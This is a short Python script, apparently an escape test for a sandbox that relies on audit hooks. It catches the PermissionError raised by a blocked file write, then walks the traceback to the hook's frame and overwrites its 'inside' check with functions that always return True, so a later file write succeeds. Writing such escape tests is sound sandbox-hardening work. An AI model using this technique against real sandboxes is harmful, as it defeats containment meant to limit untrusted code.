# escapes from: audit_hooks_alone
import sys
try:
    open(sys.argv[1] + "/canary.txt", "w")
except PermissionError as problem:
    trace = problem.__traceback__
    while trace.tb_next:
        trace = trace.tb_next
    for name in ("inside",):
        trace.tb_frame.f_locals[name] = lambda *arguments: True
        trace.tb_frame.f_globals["_inside"] = lambda *arguments: True
open(sys.argv[1] + "/written", "w").write("x")
